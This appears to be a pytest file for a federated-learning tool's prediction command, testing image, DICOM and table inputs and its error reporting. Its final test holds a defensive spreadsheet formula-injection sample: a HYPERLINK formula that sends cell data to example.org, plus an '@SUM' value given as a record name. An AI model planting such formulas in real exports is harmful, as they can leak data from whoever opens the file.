"""``tightframe predict``: files become the records that evaluation sees; none is lost by a broken one."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pydicom
import pytest
import torch
from PIL import Image
from pydicom.dataset import FileDataset, FileMetaDataset
from pydicom.uid import ExplicitVRLittleEndian, JPEG2000Lossless, SecondaryCaptureImageStorage, generate_uid
from tests.support import tables
from typer.testing import CliRunner

import tightframe
from tightframe import data, federation
from tightframe.data.heart import FEATURES
from tightframe.data.images import dicom
from tightframe.errors import DataError, ModelError
from tightframe.inference import exports, inputs, predictions
from tightframe.inference.predictions import OperatingPoint, class_codes
from tightframe.results.files import BEST, CARD, MODEL
from tightframe_app.cli import app

NAMES = ["a", "b", "c"]
PLAIN: dict[str, Any] = {
    "summation": "plain",
    "min_sites": 3,
    "seed": 2,
    "training": {"epochs": 1, "batch_size": 16, "momentum": 0.0},
}


@pytest.fixture(scope="module")
def isic(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("isic")
    options = {"dataset_options": {"image_size": 16}, "model_options": {"widths": [8, 8, 8]}}
    federation.run("fedetf", NAMES, 1, dataset="fed_isic2019", folder=folder, **PLAIN, **options)
    return folder / "server"


@pytest.fixture(scope="module")
def heart(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("heart")
    model = {"model": "mlp", "model_options": {"widths": [8], "standardise": True}}
    federation.run("fedavg", NAMES, 1, dataset="fed_heart_disease", folder=folder, **PLAIN, **model)
    return folder / "server"


@pytest.fixture(scope="module")
def digits(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("digits")
    options = {"dataset_options": {"silos": 3, "subset": 200}, "model_options": {"widths": [8, 8, 8]}}
    federation.run("fedavg", NAMES, 1, dataset="digits", folder=folder, **PLAIN, **options)
    return folder / "server"


def predict(*words: Any) -> Any:
    return CliRunner().invoke(app, ["predict", *map(str, words)])


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as stream:
        return list(csv.DictReader(stream))


def probabilities(found: list[dict[str, str]], model: Any) -> np.ndarray:
    return np.array([[float(row[f"p_{name}"]) for name in model.class_names] for row in found])


def pictures(folder: Path, count: int = 5) -> torch.Tensor:
    """Write test pictures of a twin as PNG; return its records of them."""
    spec = data.get("fed_isic2019")
    assert spec.twin is not None
    records: Any = spec.twin(0, spec.options(image_size=16)).records("test")
    folder.mkdir()
    for place in range(count):
        Image.fromarray(np.asarray(records._read(place))).save(folder / f"{place}.png")
    return torch.stack([records[place][0] for place in range(count)])


def test_pictures_are_judged_as_the_evaluation_judges_them(isic: Path, tmp_path: Path) -> None:
    expected = pictures(tmp_path / "in")
    (tmp_path / "in" / "notes.txt").write_text("no picture")
    made = predict(isic, tmp_path / "in", "-o", tmp_path / "out.csv")
    assert made.exit_code == 0, made.output
    assert "out.csv: 5 of 5 inputs" in made.stdout
    assert "1 other files" in made.stderr and "SYNTHETIC TWIN" in made.stderr
    model = tightframe.load_model(isic)
    found = rows(tmp_path / "out.csv")
    np.testing.assert_array_equal(probabilities(found, model), model.predict_proba(expected))
    assert [row["answer"] for row in found] == [model.class_names[i] for i in model.predict(expected)]
    assert {row["model_sha256"] for row in found} == {model.hash}
    assert [Path(row["input"]).name for row in found] == [f"{i}.png" for i in range(5)]


def test_what_is_broken_is_listed_and_nothing_else_is_lost(isic: Path, tmp_path: Path) -> None:
    pictures(tmp_path / "in")
    folder = tmp_path / "in"
    (folder / "1.png").write_bytes((folder / "1.png").read_bytes()[:200])
    Image.fromarray(np.zeros((40, 40), np.uint16)).save(folder / "deep.png")
    frames = [Image.fromarray(np.zeros((40, 40), np.uint8)) for _ in range(2)]
    frames[0].save(folder / "two.tiff", save_all=True, append_images=frames[1:])
    (folder / "text.jpg").write_text("not a picture")
    (folder / "none.dcm").write_text("no DICOM")
    made = predict(isic, folder, "-o", tmp_path / "out.csv")
    assert made.exit_code == 1
    assert "out.csv: 4 of 9 inputs" in made.stdout
    assert "5 inputs could not be judged" in made.stderr
    for name, word in (
        ("1.png", "TF-824: Expected a picture that can be decoded"),
        ("deep.png", "TF-824: Expected 8 bits a channel, but got the mode I;16"),
        ("two.tiff", "TF-824: Expected one picture, but got 2 in one file"),
        ("text.jpg", "TF-824: Expected a picture that can be decoded"),
        ("none.dcm", "TF-206: Expected a readable DICOM file"),
    ):
        assert any(name in line and word in line for line in made.stderr.splitlines()), name
    assert [Path(row["input"]).name for row in rows(tmp_path / "out.csv")] == [
        "0.png",
        "2.png",
        "3.png",
        "4.png",
    ]


def test_originals_are_prepared_as_training_records_were(isic: Path, tmp_path: Path) -> None:
    """The same bytes as ``tightframe data prepare isic2019`` writes, then as any prepared picture."""
    from tightframe.data.isic import prepare

    stream = np.random.default_rng(1)
    image = Image.fromarray(stream.integers(0, 255, (300, 400, 3), np.uint8))
    image.save(tmp_path / "raw.png")
    prepare.preprocess(image)[0].save(tmp_path / "prepared.jpg", quality=75)
    model = tightframe.load_model(isic)
    one = rows_of(model, [tmp_path / "raw.png"], originals=True)
    assert np.array_equal(one, rows_of(model, [tmp_path / "prepared.jpg"]))
    assert not np.array_equal(one, rows_of(model, [tmp_path / "raw.png"]))


def rows_of(model: Any, places: list[Path], **options: Any) -> np.ndarray:
    found = inputs.find(model, places, **options)
    records = [record for _, record in found.records()]
    assert not found.problems, found.problems
    return model.predict_proba(torch.stack(records))


def heart_rows(count: int = 6) -> tuple[np.ndarray, torch.Tensor]:
    spec = data.get("fed_heart_disease")
    assert spec.twin is not None
    records: Any = spec.twin(0, spec.options()).records("test")
    made = torch.stack([records[i][0] for i in range(count)])
    return made.numpy(), made


def write_table(path: Path, header: list[str], body: list[list[Any]]) -> Path:
    with path.open("w", newline="") as stream:
        csv.writer(stream).writerows([header, *body])
    return path


def test_rows_of_a_table_by_column_name(heart: Path, tmp_path: Path) -> None:
    """Columns in any order, others beside them; a bad row is named by its line, or by a column."""
    values, expected = heart_rows()
    header = ["who", *reversed(FEATURES)]
    body: list[list[Any]] = [[f"p{i}", *map(repr, map(float, row[::-1]))] for i, row in enumerate(values)]
    bad = list(body[0])
    bad[0], bad[header.index("sex")], bad[header.index("chol")] = "bad", "2", "?"
    table = write_table(tmp_path / "in.csv", header, [*body[:3], bad, ["short"], *body[3:]])
    made = predict(heart, table, "-o", tmp_path / "out.csv", "--name", "who")
    assert made.exit_code == 1
    assert "bad: TF-824: Expected 0 or 1 for 'sex', but got '2'; Expected a number for 'chol'" in made.stderr
    assert "line 6: TF-824: Expected 14 values, as the header has, but got 1" in made.stderr
    model = tightframe.load_model(heart)
    assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o600, "it tells of patients"
    found = rows(tmp_path / "out.csv")
    assert [row["input"] for row in found] == [f"p{i}" for i in range(6)]
    np.testing.assert_array_equal(probabilities(found, model), model.predict_proba(expected))


def test_which_model_answers_is_said(heart: Path, tmp_path: Path) -> None:
    best, card = heart / BEST, json.loads((heart / CARD).read_text())
    (tmp_path / CARD).write_text(json.dumps(card | {"best_round_by_validation": 7}))
    for name in (MODEL, BEST):
        shutil.copy(best.with_name(name), tmp_path / name)
    table = write_table(tmp_path / "in.csv", list(FEATURES), [list(row) for row in heart_rows(1)[0]])
    made = predict(tmp_path, table, "-o", tmp_path / "out.csv")
    assert "(the last round's)" in made.stderr
    assert f"round 7's; it answers if you name {tmp_path / BEST}" in made.stderr.replace("\n", " ")
    named = predict(tmp_path / BEST, table, "-o", tmp_path / "best.csv").stderr
    assert "(round 7's, the best by validation)" in named and "if you name" not in named


def test_a_model_that_gives_one_answer_is_said_to(heart: Path, tmp_path: Path) -> None:
    card = json.loads((heart / CARD).read_text())
    card["evaluation"]["test"]["one_answer"] = {"class": "disease", "share": 0.99}
    (tmp_path / CARD).write_text(json.dumps(card))
    for name in (MODEL, BEST):
        shutil.copy(heart / name, tmp_path / name)
    table = write_table(tmp_path / "in.csv", list(FEATURES), [list(row) for row in heart_rows(1)[0]])
    told = "ONE ANSWER: on the test records the model gives one answer: disease, for nearly all records"
    assert told in " ".join(predict(tmp_path, table, "-o", tmp_path / "out.csv").stderr.split())
    best = predict(tmp_path / BEST, table, "-o", tmp_path / "best.csv").stderr
    assert "ONE ANSWER" not in best, "another round's"
    assert "ONE ANSWER" not in predict(heart, table, "-o", tmp_path / "sound.csv").stderr


def test_all_that_is_wrong_with_a_header_is_told_at_once(heart: Path, tmp_path: Path) -> None:
    header = [*[name for name in FEATURES if name not in ("chol", "sex")], "age"]
    table = write_table(tmp_path / "in.csv", header, [])
    model = tightframe.load_model(heart)
    with pytest.raises(ModelError) as caught:
        inputs.find(model, [table], name_column="nobody")
    said = str(caught.value)
    for word in ("TF-823", "no", "'chol'", "'sex'", "one column 'age', but there are 2", "'nobody'"):
        assert word in said


def test_a_header_that_another_character_divides_is_told(heart: Path, tmp_path: Path) -> None:
    table = write_table(tmp_path / "in.csv", [";".join(FEATURES)], [])
    with pytest.raises(ModelError, match="the header has ';' 12 times: commas divide columns"):
        inputs.find(tightframe.load_model(heart), [table])


def test_a_table_in_another_encoding_is_told_what_to_do(heart: Path, tmp_path: Path) -> None:
    table = tmp_path / "in.csv"
    table.write_bytes(f"{','.join(FEATURES)},größe\n".encode("cp1252"))
    told = rf"byte {len(','.join(FEATURES)) + 3} is not\. Save it so; .*--site-config"
    with pytest.raises(ModelError, match=told):
        inputs.find(tightframe.load_model(heart), [table])


@pytest.mark.parametrize(
    ("names", "word"),
    [
        (["missing.csv"], "there is no such file or folder"),
        (["in.csv", "in.csv"], "Expected one CSV file, but got 2"),
        (["in.png"], "Expected a table"),
    ],
)
def test_input_of_another_kind_is_refused_before_anything(
    heart: Path, tmp_path: Path, names: list[str], word: str
) -> None:
    write_table(tmp_path / "in.csv", list(FEATURES), [])
    (tmp_path / "in.png").touch()
    made = predict(heart, *(tmp_path / name for name in names), "-o", tmp_path / "out.csv")
    assert isinstance(made.exception, ModelError) and word in str(made.exception)
    assert not (tmp_path / "out.csv").exists()


def test_drugs_of_eicu_are_called_by_their_codes(tmp_path: Path) -> None:
    from tightframe.data.eicu import EicuOptions, form, vocabulary_sha256

    codes = (4, 11, 250)
    made = form(EicuOptions(drugs=3, vocabulary=vocabulary_sha256(codes)))
    columns, wrong = made.choose(["stay", "250", "4", "11"])
    assert (columns, wrong) == (["4", "11", "250"], [])
    assert made.encode(columns, ["0", "1", "1"])[0].tolist() == [0, 1, 1]
    assert made.encode(columns, ["0", "2", ""])[1][0] == "Expected 0 or 1 for '11', but got '2'"
    assert "Expected 3 columns called by HICL codes" in made.choose(["4", "11"])[1][0]
    assert "SHA-256" in made.choose(["4", "11", "251"])[1][0]


def test_an_operating_point_chooses_the_answer(digits: Path, tmp_path: Path) -> None:
    names = ("a", "b", "c")
    point = OperatingPoint.parsed("b=0.2", names)
    assert OperatingPoint.parsed("B=0.2", names) == point
    assert point.answer(np.array([0.7, 0.2, 0.1]), names) == 1
    assert point.answer(np.array([0.1, 0.19, 0.71]), names) == 2
    assert OperatingPoint.parsed("a=0.9", names).answer(np.array([0.8, 0.05, 0.15]), names) == 2
    for wrong in ("d=0.5", "b", "b=0", "b=1.1", "b=nan"):
        with pytest.raises(ModelError, match="TF-823: Expected an operating point"):
            OperatingPoint.parsed(wrong, names)
    Image.fromarray(np.full((8, 8), 90, np.uint8)).save(tmp_path / "one.png")
    made = predict(
        digits, tmp_path / "one.png", "-o", tmp_path / "out.csv", "--operating-point", "7=0.000001"
    )
    assert made.exit_code == 0, made.output
    (row,) = rows(tmp_path / "out.csv")
    assert (row["answer"], row["operating_point"]) == ("7", "7>=1e-06")


def test_a_picture_of_another_size_is_named(digits: Path, tmp_path: Path) -> None:
    Image.fromarray(np.zeros((9, 8), np.uint8)).save(tmp_path / "one.png")
    made = predict(digits, tmp_path / "one.png", "-o", tmp_path / "out.csv")
    assert made.exit_code == 1
    assert "TF-824: Expected 8 x 8 pixels, but got 8 x 9" in made.stderr


def test_an_output_is_not_replaced_unasked(digits: Path, tmp_path: Path) -> None:
    (tmp_path / "out.csv").write_text("mine")
    made = predict(digits, tmp_path, "-o", tmp_path / "out.csv")
    assert isinstance(made.exception, FileExistsError)
    assert (tmp_path / "out.csv").read_text() == "mine"


def write_dicom(path: Path, pixels: np.ndarray, photometric: str, **header: Any) -> Path:
    """Write a secondary capture, as PS3.3 describes it."""
    meta = FileMetaDataset()
    meta.TransferSyntaxUID = header.pop("syntax", ExplicitVRLittleEndian)
    meta.MediaStorageSOPClassUID = SecondaryCaptureImageStorage
    meta.MediaStorageSOPInstanceUID = generate_uid()
    stored = FileDataset(str(path), {}, file_meta=meta, preamble=b"\0" * 128)
    stored.SOPClassUID, stored.SOPInstanceUID = meta.MediaStorageSOPClassUID, meta.MediaStorageSOPInstanceUID
    stored.PatientName, stored.Modality = "Nobody^Never", header.pop("Modality", "XC")
    stored.Rows, stored.Columns = pixels.shape[-3:-1] if photometric in dicom.COLOUR else pixels.shape[-2:]
    stored.SamplesPerPixel = 3 if photometric in dicom.COLOUR else 1
    if stored.SamplesPerPixel == 3:
        stored.PlanarConfiguration = 0
    bits = pixels.dtype.itemsize * 8
    stored.BitsAllocated, stored.BitsStored, stored.HighBit = bits, bits, bits - 1
    stored.PixelRepresentation = int(pixels.dtype.kind == "i")
    stored.PhotometricInterpretation = photometric
    for name, value in header.items():
        setattr(stored, name, value)
    stored.PixelData = pixels.tobytes()
    stored.save_as(path, enforce_file_format=True)
    return path


GREY = np.arange(64, dtype=np.uint8).reshape(8, 8) * 4
RGB = np.random.default_rng(3).integers(0, 256, (8, 8, 3), np.uint8)


def test_grey_dicom_is_read_as_its_picture(tmp_path: Path) -> None:
    """8 bits as they are; MONOCHROME1 inverted; 16 bits over what is stored, or by the window."""
    place = tmp_path / "one.dcm"
    assert np.array_equal(dicom.read(write_dicom(place, GREY, "MONOCHROME2")).pixels[..., 0], GREY)
    assert np.array_equal(dicom.read(write_dicom(place, 255 - GREY, "MONOCHROME1")).pixels[..., 0], GREY)
    deep = (GREY.astype(np.uint16) << 8) + 3
    made = dicom.read(write_dicom(place, deep, "MONOCHROME2")).pixels[..., 0]
    assert np.array_equal(made, np.rint(deep / 65535 * 255).astype(np.uint8))
    signed = (GREY.astype(np.int16) * 10) - 1024
    window = {"RescaleSlope": 2, "RescaleIntercept": -100, "WindowCenter": [40, 50], "WindowWidth": [400, 9]}
    made = dicom.read(write_dicom(place, signed, "MONOCHROME2", **window)).pixels[..., 0]
    theirs = pydicom.pixels.apply_voi_lut(
        pydicom.pixels.apply_modality_lut(signed, pydicom.dcmread(place)), pydicom.dcmread(place), index=0
    )
    low, high = theirs.min(), theirs.max()  # of the window, which the values reach on both sides
    assert np.abs(made - (theirs - low) / (high - low) * 255).max() <= 0.51


def test_colour_dicom_is_read_as_rgb(tmp_path: Path) -> None:
    place = tmp_path / "one.dcm"
    assert np.array_equal(dicom.read(write_dicom(place, RGB, "RGB")).pixels, RGB)
    coded = np.asarray(Image.fromarray(RGB).convert("YCbCr"))
    made = dicom.read(write_dicom(place, coded, "YBR_FULL")).pixels
    assert np.abs(made.astype(int) - np.asarray(Image.fromarray(coded, "YCbCr").convert("RGB"))).max() <= 2


def test_dicom_that_is_no_single_picture_is_refused_by_name(tmp_path: Path) -> None:
    place = tmp_path / "one.dcm"
    many = np.zeros((3, 8, 8), np.uint8)
    for pixels, photometric, header, word in (
        (many, "MONOCHROME2", {"NumberOfFrames": 3}, "3 frames (multi-frame)"),
        (GREY, "PALETTE COLOR", {}, "but got PALETTE COLOR"),
        (GREY, "MONOCHROME2", {"syntax": JPEG2000Lossless}, "JPEG 2000"),
    ):
        if "syntax" in header:
            write_dicom(place, pixels, photometric)
            stored = pydicom.dcmread(place)
            stored.file_meta.TransferSyntaxUID = JPEG2000Lossless
            stored.PixelData = pydicom.encaps.encapsulate([b"\xff\x4f not really"])
            stored["PixelData"].VR = "OB"
            stored["PixelData"].is_undefined_length = True
            stored.save_as(place)
        else:
            write_dicom(place, pixels, photometric, **header)
        with pytest.raises(DataError) as caught:
            dicom.read(place)
        assert word in str(caught.value) and caught.value.code == "TF-206"
        assert "Nobody" not in str(caught.value)


def test_dicom_is_judged_like_the_same_picture(digits: Path, isic: Path, tmp_path: Path) -> None:
    """Also without an ending in its name; a colour model takes grey, a grey model no colours."""
    model = tightframe.load_model(digits)
    Image.fromarray(GREY).save(tmp_path / "one.png")
    write_dicom(tmp_path / "IM0001", 255 - GREY, "MONOCHROME1", Modality="CR")
    theirs = rows_of(model, [tmp_path / "one.png"])
    assert np.array_equal(rows_of(model, [tmp_path / "IM0001"]), theirs)
    assert np.array_equal(rows_of(model, [tmp_path / "IM0001"], modality="CR"), theirs)
    found = inputs.find(model, [tmp_path / "IM0001"], modality="XC")
    assert not list(found.records()) and "Expected the modality XC, but got CR" in str(found.problems[0])
    write_dicom(tmp_path / "colour.dcm", RGB, "RGB")
    found = inputs.find(model, [tmp_path / "colour.dcm"])
    assert not list(found.records()) and "Expected a grey picture, but got colours" in str(found.problems[0])
    rows_of(tightframe.load_model(isic), [tmp_path / "IM0001", tmp_path / "colour.dcm"])


def test_a_row_of_an_own_table_is_judged_as_the_contract_says(tmp_path: Path) -> None:
    """The records of the site's reader are the oracle; a row that breaks the contract is listed."""
    run = {"dataset": "table", "dataset_options": {"contract": tables.contract()}}
    network = {"model": "mlp", "model_options": {"widths": [8]}}
    federation.run("fedavg", NAMES, 1, folder=tmp_path / "run", **PLAIN, **run, **network)
    model = tightframe.load_model(tmp_path / "run" / "server")
    path = tmp_path / "ward.csv"
    tables.write(path, tables.ward_rows())
    spec = data.get("table")
    opened = spec.open(tables.site(path), tables.options(tables.contract()))
    records: Any = opened.records("train")
    with path.open("a") as stream:
        stream.write(",".join(["?"] * len(rows(path)[0])) + "\n")
    done = predict(tmp_path / "run" / "server", path, "-o", tmp_path / "out.csv")
    assert done.exit_code == 1 and done.output.count("TF-824") == 1, done.output
    found = probabilities(rows(tmp_path / "out.csv"), model)
    expected = model.predict_proba(torch.stack([records[place][0] for place in range(len(records))]))
    nearest = np.abs(np.asarray(expected)[:, None] - found[None]).max(axis=2).min(axis=1)
    assert len(found) == len(tables.ward_rows()) and nearest.max() < 1e-6
    assert len(np.unique(found[:, 0])) > 3, "rows are told apart"
    for row in rows(tmp_path / "out.csv"):
        assert row["answer_code"] == {"well": "0", "ill": "1"}[row["answer"]]
    assert class_codes(model) == {"0": "well", "1": "ill"}
    twice = ("-o", tmp_path / "twice.csv", "--name", "sex", "--operating-point", "1=0.3")
    done = predict(tmp_path / "run" / "server", path, *twice)
    assert "names that are there more than once: 'female' 30 times, 'male' 30 times" in done.output
    assert rows(tmp_path / "twice.csv")[0]["operating_point"] == "ill>=0.3", "a code of the contract is taken"
    judged, problems = model.predict_table(path, name="id")
    assert [item.name for item in judged] == [row[0] for row in tables.ward_rows()] and len(problems) == 1
    np.testing.assert_array_equal(np.stack([item.probabilities for item in judged]), found)
    named = exports.description(model)["input"]["values"]
    assert [item["name"] for item in named] == list(tables.options().contract.features)


def test_an_answers_codes_need_no_titles_and_a_title_may_have_a_semicolon() -> None:
    def judging(label: dict[str, Any], names: tuple[str, ...], findings: bool) -> Any:
        job = SimpleNamespace(dataset_options={"contract": {"label": label}})
        setup = SimpleNamespace(job=job)
        return SimpleNamespace(setup=setup, class_names=names, findings=findings, hash="h")

    bare = judging({"classes": [{"code": "0"}, {"code": "1", "title": None}]}, ("0", "1"), findings=False)
    assert class_codes(bare) == {"0": "0", "1": "1"} and "answer_code" not in predictions.header(bare, None)
    columns = [{"column": "e", "title": "edema; mild"}, {"column": "n", "title": "nodule"}]
    several = judging({"findings": columns}, ("edema; mild", "nodule"), findings=True)
    found = np.array([0.9, 0.8])
    made = predictions.Predicted("p", found, predictions.answers(several, found, None))
    assert next(csv.reader([predictions.line(several, made, None)]))[3:5] == ["edema; mild;nodule", "e;n"]


def test_no_cell_is_carried_out_as_a_formula_by_a_spreadsheet() -> None:
    """A class is named by who writes the job, a file or a row by whoever gave the record."""
    evil = '=HYPERLINK("http://example.org/"&A1)'
    job = SimpleNamespace(
        dataset_options={"contract": {"label": {"classes": [{"code": "+c", "title": evil}]}}}
    )
    model: Any = SimpleNamespace(
        setup=SimpleNamespace(job=job), class_names=(evil,), hash="h", findings=False
    )
    made = predictions.Predicted("@SUM(1)", np.array([-1e-300]), (evil,))
    cells = next(csv.reader([predictions.line(model, made, OperatingPoint(evil, 0.5))]))
    assert cells == ["'@SUM(1)", "-1e-300", f"'{evil}", "'+c", f"'{evil}>=0.5", "h"]
    heads = next(csv.reader([predictions.header(model, None)]))
    assert heads == ["input", f"p_{evil}", "answer", "answer_code", "model_sha256"]
